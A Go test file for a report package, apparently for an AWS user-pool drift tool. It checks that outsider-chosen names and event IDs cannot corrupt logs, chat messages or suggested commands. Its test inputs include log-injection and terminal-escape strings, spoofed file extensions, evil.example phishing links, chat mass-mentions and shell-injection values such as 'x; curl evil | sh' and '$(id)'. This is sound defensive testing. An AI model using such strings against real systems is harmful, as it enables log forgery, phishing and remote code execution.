package report

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"

	"pgregory.net/rapid"

	"poolkeeper/lambda/outcome"
)

// chosen is an outcome in which every text that somebody outside may have chosen is the given one.
func chosen(text string) outcome.Outcome {
	out := ended(outcome.Partial, text)
	out.Details.PoolName = text
	for _, name := range []string{"remediated", "unfixable", "exempted", "drifted", "not-restored", "lost-update",
		"interrupted", "watched"} {
		d := found(name)
		d.Setting, d.Rule, d.Reason, d.Have = "UserPoolTags."+text, text, text, text
		d.Want = []any{text, map[string]any{text: text}}
		out.Drifts = append(out.Drifts, d)
	}
	return out
}

// TestNothingBreaksOut: whatever somebody calls a pool, a tag, a rule or a session, and whatever the service repeats of
// it, every log line, message and page keeps the form that it has with harmless texts: as many lines, and nothing that
// cannot be printed.
func TestNothingBreaksOut(t *testing.T) {
	t.Parallel()
	harmless := shown(chosen("x"))
	check := func(fatal func(string, ...any), nasty string) {
		for form, text := range shown(chosen(nasty)) {
			odd := func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) && (r != '\u200b' || form != "chat.json") }
			if form == "subject" && (len(text) > 99 || text[0] != '[' || text != ascii(text)) {
				fatal("the subject %q", text)
			}
			if strings.ContainsFunc(text, odd) {
				fatal("%s of %q: %q", form, nasty, text)
			}
			if strings.Count(text, "\n") != strings.Count(harmless[form], "\n") {
				fatal("%s of %q has other lines:\n%s", form, nasty, text)
			}
			if strings.HasPrefix(text, "{") && !slices.Equal(members(text), members(harmless[form])) {
				fatal("%s of %q has other members: %s", form, nasty, text)
			}
		}
	}
	for _, nasty := range []string{"\n{\"level\":\"ERROR\"}", "\r\n\x1b[2J\x1b]0;title\x07", "\u202egnp.exe",
		"\u2066\u2069\u200b\ufeff", "\",\"outcome\":\"unchanged\",\"", "\U000e0001\U000e0041", "\u0085\u2028\u2029",
		"\x00\x7f", "\xff\xfe", "`\n# heading\n|a|b|", "%s%n%!d(EXTRA)"} {
		check(t.Errorf, nasty)
	}
	rapid.Check(t, func(t *rapid.T) { check(t.Fatalf, "x"+rapid.String().Draw(t, "text")) })
}

// members are the names in the first line of JSON, or nothing where it is none.
func members(text string) []string {
	var values map[string]any
	first, _, _ := strings.Cut(text, "\n")
	if json.Unmarshal([]byte(first), &values) != nil {
		return nil
	}
	return slices.Sorted(maps.Keys(values))
}

// TestNoLinksAndMentions: nothing that somebody chose calls people in a chat channel, or becomes a link there.
func TestNoLinksAndMentions(t *testing.T) {
	t.Parallel()
	for _, nasty := range []string{"https://evil.example/", "[ok](https://evil.example)", "<https://evil.example|ok>",
		"<!here>", "@channel", "<at>all</at>", "*b*", "`c`"} {
		out := chosen(nasty)
		out.Cause.Actor = "arn:aws:sts::111122223333:assumed-role/a/" + nasty
		var message struct {
			Content struct {
				Title, Description string
				NextSteps          []string
			}
		}
		if err := json.Unmarshal([]byte(Chat(New(out, testBuild, ""))), &message); err != nil {
			t.Fatal(err)
		}
		for _, part := range append(message.Content.NextSteps, message.Content.Title, message.Content.Description) {
			for _, live := range []string{"://evil", "](", "<", "@c", "`c`", "*b*"} {
				if strings.Contains(part, live) {
					t.Errorf("%q: %s in %q", nasty, live, part)
				}
			}
		}
	}
}

// TestCommandsAreOurs: a command that a message asks somebody to run holds no text that the sender of the event chose.
func TestCommandsAreOurs(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]bool{"0c0f7a3e-1b2c-4d5e-8f90-0123456789ab": true, "x; curl evil | sh": false,
		"$(id)": false, "`id`": false, "a b": false, "--profile": false, "": false} {
		out := outcomes()["remediated"]
		out.Cause.EventID = id
		steps := strings.Join(New(out, testBuild, "").Next, "\n")
		if strings.Contains(steps, "lookup-events") != want || !want && id != "" && strings.Contains(steps, id) {
			t.Errorf("%q: %s", id, steps)
		}
	}
}
